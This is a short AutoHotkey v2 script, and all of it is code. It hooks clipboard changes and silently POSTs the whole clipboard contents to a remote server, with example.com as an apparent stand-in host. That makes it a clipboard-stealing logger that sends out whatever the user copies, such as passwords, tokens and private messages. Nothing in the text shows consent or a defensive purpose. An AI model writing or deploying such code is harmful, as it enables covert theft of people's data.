#Requires AutoHotkey v2.0
OnClipboardChange(Send2)
Send2(type) {
    http := ComObject("MSXML2.XMLHTTP")
    http.Open("POST", "https://example.com")
    http.Send(A_Clipboard)
}
